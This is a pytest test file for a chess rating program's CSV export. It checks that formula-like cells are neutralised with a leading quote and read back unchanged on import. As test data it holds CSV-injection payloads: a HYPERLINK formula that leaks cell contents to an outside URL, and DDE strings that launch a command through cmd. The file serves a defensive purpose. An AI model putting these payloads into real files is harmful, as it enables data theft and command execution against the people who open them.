"""CSV formula injection (OWASP "CSV Injection"): every CSV the product writes neutralises a
cell that a spreadsheet would run as a formula, and leaves plain numbers alone; the files it
reads back (a register exported and imported again) read the cells as they were."""

from __future__ import annotations

import csv
import io
import itertools
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ratings.io.csv_out import is_formula, neutralise, restore, write_csv
from tests.conftest import init_database, table_rows
from tests.support import ok

HYPERLINK = '=HYPERLINK("http://x/?d="&A1,"click")'
PLUS = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, PLUS, AT, MINUS]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (PLUS, "'" + PLUS),
        (AT, "'" + AT),
        (MINUS, "'" + MINUS),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("-", "'-"),
        ("+", "'+"),
        ("-12\n", "'-12\n"),
        ("-1-1", "'-1-1"),
        ("-0x1A", "'-0x1A"),
        ("-inf", "'-inf"),
        ("-\u0661\u0662", "'-\u0661\u0662"),  # Arabic-Indic digits are no plain number
        ("- 12", "'- 12"),
        # plain numbers stay numbers
        ("-12", "-12"),
        ("-0.25", "-0.25"),
        ("+7", "+7"),
        ("-.5", "-.5"),
        ("-1.5e3", "-1.5e3"),
        ("12", "12"),
        # everything else is left alone
        ("", ""),
        ("Smith, Ann", "Smith, Ann"),
        ("O'Hara, Cy", "O'Hara, Cy"),
        ("a=b", "a=b"),
        (" =1", " =1"),
    ],
)
def test_neutralise(cell: str, written: str) -> None:
    assert neutralise(cell) == written


def test_write_csv_neutralises_every_cell_header_included() -> None:
    out = io.StringIO()
    write_csv(out, [["=name", "change"], [HYPERLINK, -12], [MINUS, "-0.25"], [None, 3]])
    assert out.getvalue() == (
        f'\'=name,change\n"\'=HYPERLINK(""http://x/?d=""&A1,""click"")",-12\n\'{MINUS},-0.25\n,3\n'
    )


# --- every command that writes CSV ------------------------------------------------------


@pytest.fixture(scope="module")
def club(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The four payloads as player names (three with ratings), and games between them."""
    db = tmp_path_factory.mktemp("csv_injection") / "club.db"
    ok(db, "init")
    ok(db, "player", "add", "--rating", "1800", "--", HYPERLINK)
    ok(db, "player", "add", "--rating", "1700", "--", PLUS)
    ok(db, "player", "add", "--", AT)
    ok(db, "player", "add", "--rating", "1600", "--", MINUS)
    ok(db, "game", "add", "1", "2", "0-1", "--date", "2026-01-10")
    ok(db, "game", "add", "4", "1", "1-0", "--date", "2026-01-11")
    ok(db, "game", "add", "3", "4", "1-0", "--date", "2026-01-12")
    return db


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _check_names_neutralised(rows: list[list[str]], column: int) -> None:
    names = sorted(row[column] for row in rows[1:])
    assert names == sorted("'" + p for p in PAYLOADS)


@pytest.mark.parametrize("command", ["preview", "list"])
def test_rating_lists(club: Path, tmp_path: Path, command: str) -> None:
    db = tmp_path / "club.db"
    db.write_bytes(club.read_bytes())
    if command == "list":
        ok(db, "rate")
    rows = _cells(ok(db, command, "--all", "--format", "csv"))
    assert rows[0][:7] == ["name", "fide_id", "federation", "title", "birth_year", "rating",
                           "change"]  # fmt: skip
    _check_names_neutralised(rows, 0)
    # an unrated player's change is blank
    changes = sorted(int(row[6]) for row in rows[1:] if row[6])
    assert changes[0] < 0  # a negative change is written as a plain number, unquoted
    assert [row[6] for row in rows[1:] if row[6].startswith("-")] == [
        str(c) for c in changes if c < 0
    ]


def test_history(club: Path, tmp_path: Path) -> None:
    db = tmp_path / "club.db"
    db.write_bytes(club.read_bytes())
    ok(db, "rate")
    rows = _cells(ok(db, "history", "1", "--format", "csv"))
    assert rows == [
        ["period", "rating_before", "rating", "change", "k_used", "period_games", "total_games",
         "score", "list_status"],
        # K 20 and no total: the prior game count is unknown
        ["2026-01", "1800", "1772", "-28", "20", "2", "", "0.0", "listed"],
    ]  # fmt: skip


def test_sql(club: Path) -> None:
    text = ok(club, "sql", "SELECT name, -12 AS n, -0.25 AS x, '-2+3' AS s, 1 AS \"=h\" "
               "FROM players ORDER BY id", "--format", "csv")  # fmt: skip
    assert _cells(text) == [
        ["name", "n", "x", "s", "'=h"],
        *[["'" + p, "-12", "-0.25", "'-2+3", "1"] for p in PAYLOADS],
    ]


def test_restore_reads_back_what_neutralise_wrote() -> None:
    """Every value up to five characters of these, neutralised and read back, is itself,
    a quote before a formula character included (seen: ``'=Smith, Jo`` and ``=Smith, Jo``
    were both written ``'=Smith, Jo``, and the first came back without its quote)."""
    alphabet = ["'", ";", "=", "-", "a", "1", '"', "\t", "\n", "@"]
    checked = 0
    for n in range(1, 6):
        for chars in itertools.product(alphabet, repeat=n):
            value = "".join(chars)
            assert restore(neutralise(value)) == value, repr(value)
            checked += 1
    assert checked == sum(len(alphabet) ** n for n in range(1, 6))
    assert restore("'t Hooft, Gerard") == "'t Hooft, Gerard"
    assert neutralise("'=Smith, Jo") != neutralise("=Smith, Jo")


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("'=+-@;\t\r\n\"a1. ,e")), max_size=40))
def test_restore_undoes_neutralise_over_the_characters_both_look_at(value: str) -> None:
    """The property over every character the two functions look at (quote, formula
    characters, separators, line breaks, double quote) and a few that make numbers; and
    what neutralise writes is never a formula."""
    assert restore(neutralise(value)) == value
    assert not is_formula(neutralise(value))


@given(st.text(max_size=30))
def test_restore_undoes_neutralise_for_any_text(value: str) -> None:
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("'=Smith, John", "''=Smith, John"),
        ("''=Double, Q", "'''=Double, Q"),
        ("Semi;'=x, Z", "Semi;''=x, Z"),
        ("'-12", "''-12"),
        ("'t Hooft", "'t Hooft"),
        ("a;'b", "a;'b"),
    ],
)
def test_a_quote_before_a_formula_character_gets_one_more(cell: str, written: str) -> None:
    """A value whose quotes come before a formula character gets one more quote, which
    :func:`restore` takes away again; a spreadsheet shows the cell as text either way."""
    assert neutralise(cell) == written
    assert restore(written) == cell


NAMES = (
    "=Jones, John",
    "+Plus, Ann",
    "@At, Bo",
    "-Minus, Cy",
    "Semi;=colon, Di",
    "'=Smith, John",
    "''=Double, Q",
    "Semi;'=x, Z",
    "'-Minus, Ed",
)


def test_a_register_with_formula_like_names_goes_back_unchanged(tmp_path: Path) -> None:
    """Seen: ``player list --format csv`` wrote ``'=Smith, John`` (neutralised), and
    ``import players --update`` of that file renamed the player ``'=Smith, John``. Then
    the names that themselves begin with quotes before a formula character: of
    ``'=Smith, John``, ``''=Double, Q`` and ``Semi;'=x, Z``, 3 were renamed
    (``'=Smith, John -> =Smith, John``)."""
    db = init_database(tmp_path / "reg.db")
    for name in NAMES:
        ok(db, "player", "add", "--rating", "1800", "--games", "30", "--", name)
    before = ok(db, "player", "list", "--format", "csv")
    assert "'=Jones, John" in before
    assert "''=Smith, John" in before
    sheet = tmp_path / "register.csv"
    sheet.write_text(before, encoding="utf-8")
    assert ok(db, "import", "players", "--update", str(sheet)).splitlines()[-1] == (
        f"Imported 0 new players, updated 0 ({len(NAMES)} unchanged) from {sheet}"
    )
    assert ok(db, "player", "list", "--format", "csv") == before
    # into another database (the ids dropped): the names as registered, not with the quote
    rows = list(csv.reader(io.StringIO(before)))
    moved = tmp_path / "moved.csv"
    with moved.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows(row[1:] for row in rows)
    other = init_database(tmp_path / "other.db")
    ok(other, "import", "players", str(moved))
    names = {n for (n,) in table_rows(other, "SELECT name FROM players")}
    assert names == set(NAMES)
